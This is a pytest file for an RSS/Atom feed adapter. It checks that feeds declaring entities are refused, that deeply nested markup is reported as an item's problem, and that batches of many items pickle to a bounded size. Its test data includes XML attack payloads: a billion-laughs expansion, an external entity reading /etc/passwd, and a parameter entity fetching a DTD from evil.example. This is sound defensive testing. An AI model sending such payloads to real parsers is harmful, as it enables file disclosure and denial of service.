"""Feeds that try to blow up the feed adapter: entity declarations, markup nested past the
record depth limit, and feeds of many items (docs/adapters/feed.md, "Hostile feeds")."""

from __future__ import annotations

import asyncio
import dataclasses
import pickle
from datetime import timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.contract import Context, Failure, Item
from adapters.feed import FeedAdapter, FeedSettings, parse_feed
from adapters.feed.adapter import ENTITIES_REFUSED
from adapters.kit.http import Response
from adapters.kit.sanitize import sanitize_html
from hub import records
from hub.errors import InputError
from hub.federation import Node
from hub.records.safe_xml import DEFAULT_LIMITS

NODE = Node("gz", "广州市人民政府", "city", "gd", "4401000001", "www.gz.gov.cn")
CST = timezone(timedelta(hours=8))
URL = "https://www.gz.gov.cn/rss.xml"


class OneDocument:
    """``context.http`` that answers every GET with one document."""

    def __init__(self, body: bytes) -> None:
        self.body = body

    async def get(self, url: str) -> Response:
        return Response(url, 200, self.body, {"Content-Type": "application/rss+xml"})


def harvest(body: bytes) -> tuple[FeedAdapter, list[Item | Failure]]:
    adapter = FeedAdapter(FeedSettings(url=URL), Context(NODE, "p", OneDocument(body)))

    async def collect() -> list[Item | Failure]:
        return [found async for found in adapter.fetch(None)]

    return adapter, asyncio.run(collect())


def rss(items: str, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<rss version="2.0"><channel>'
        f"<title>广州</title><link>https://www.gz.gov.cn/</link>{items}</channel></rss>"
    )


def item(n: int, title: str = "", description: str = "内容") -> str:
    return (
        f"<item><title>{title or f'动态{n}'}</title><link>https://www.gz.gov.cn/xw/{n}.html</link>"
        f"<pubDate>Mon, 01 Apr 2024 09:{n % 60:02d}:00 +0800</pubDate>"
        f"<description>{description}</description></item>"
    )


# -- entities ----------------------------------------------------------------------------

LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "哈哈哈哈哈哈哈哈哈哈"}">' for n in range(10)
)
DECLARING = {
    "entity bomb": '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY h "&a;&a;&a;&a;">]>',
    "billion laughs": f"<!DOCTYPE rss [{LAUGHS}]>",
    "external entity": '<!DOCTYPE rss [<!ENTITY h SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    "lower case": '<!doctype rss [<!entity h "x">]>',
    "after a comment": '<!-- CMS --><!DOCTYPE rss [<!ENTITY h "x">]>',
    "empty subset": "<!DOCTYPE rss []>",
}


@pytest.mark.parametrize("prolog", DECLARING.values(), ids=DECLARING.keys())
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "gb18030"])
def test_a_feed_declaring_entities_is_refused_with_a_reported_problem(
    prolog: str, encoding: str
) -> None:
    document = rss(item(1, "&h;") + item(2), prolog)
    declared = document.replace('encoding="UTF-8"', f'encoding="{encoding}"')
    _, found = harvest(declared.encode(encoding))
    assert len(found) == 1 and isinstance(found[0], Failure)  # no record titled "&h;"
    assert found[0].where == URL
    assert found[0].message == f"not a readable feed: {ENTITIES_REFUSED}"


def test_a_doctype_naming_only_an_external_dtd_is_read_as_before() -> None:
    prolog = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    feed = parse_feed(rss(item(1, "一&amp;二"), prolog).encode(), None, CST)
    assert [e.title for e in feed.entries] == ["一&二"]


def test_entity_text_in_content_is_not_a_declaration() -> None:
    text = '<![CDATA[<p>XML 写法：<!DOCTYPE x [<!ENTITY y "z">]></p>]]>'
    feed = parse_feed(rss(item(1, description=text)).encode(), None, CST)
    assert len(feed.entries) == 1 and feed.problem is None


# -- depth -------------------------------------------------------------------------------


def nested(depth: int, tag: str = "div") -> str:
    return f"<{tag}>" * depth + "深处的文字" + f"</{tag}>" * depth


@pytest.mark.parametrize("depth", [DEFAULT_LIMITS.max_depth + 1, 300, 100_000])
def test_a_description_nested_too_deep_is_that_items_problem(depth: int) -> None:
    deep = f"<![CDATA[{nested(depth)}]]>"
    adapter, found = harvest(rss(item(1, "太深", deep) + item(2, "正常")).encode())
    deep_item, fine = (f for f in found if isinstance(f, Item))
    with pytest.raises(InputError) as caught:
        adapter.convert(deep_item)
    [problem] = caught.value.problems
    assert problem.where == deep_item.where and problem.field == "body"
    assert f"nested {depth:,} levels deep, over the limit of {DEFAULT_LIMITS.max_depth}" in (
        problem.message
    )
    record = adapter.convert(fine)
    assert record is not None and record.title == "正常"


def test_atom_xhtml_content_nested_too_deep_is_that_entrys_problem() -> None:
    content = f'<div xmlns="http://www.w3.org/1999/xhtml">{nested(100_000, "span")}</div>'
    atom = (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        "<entry><id>urn:x:1</id><title>深</title><updated>2024-04-01T09:00:00+08:00</updated>"
        f'<link href="https://www.gz.gov.cn/1.html"/><content type="xhtml">{content}</content>'
        "</entry></feed>"
    )
    adapter, found = harvest(atom.encode())
    [entry] = found
    assert isinstance(entry, Item)
    with pytest.raises(InputError, match="body: the HTML is nested"):
        adapter.convert(entry)


@settings(max_examples=40, deadline=None)
@given(st.integers(1, 2 * DEFAULT_LIMITS.max_depth), st.sampled_from(["div", "span", "b"]))
def test_markup_within_the_limit_keeps_its_text_and_deeper_is_refused(depth: int, tag: str) -> None:
    html = nested(depth, tag)
    if depth > DEFAULT_LIMITS.max_depth:
        with pytest.raises(InputError):
            sanitize_html(html)
        return
    body = sanitize_html(html)
    assert body is not None and "深处的文字" in body
    assert records.parse(_record_with(body)).body == body  # fits a record


def _record_with(body: str) -> bytes:
    adapter, [found] = harvest(rss(item(1)).encode())
    assert isinstance(found, Item)
    record = adapter.convert(found)
    assert record is not None
    return dataclasses.replace(record, body=body).to_xml()


# -- size ----------------------------------------------------------------------------------


def test_a_batch_of_items_pickles_to_the_same_size_whatever_the_feed_holds() -> None:
    """Items go to the worker processes pickled, 200 at a time: each carries its entry and
    the feed's head, never the whole feed (which made a big feed's memory and time grow
    with items × batches)."""

    def batch_bytes(count: int) -> int:
        _, found = harvest(rss("".join(item(n) for n in range(count))).encode())
        assert len(found) == count
        return len(pickle.dumps(found[:200]))

    small, large = batch_bytes(200), batch_bytes(5_000)
    assert large < small * 1.1
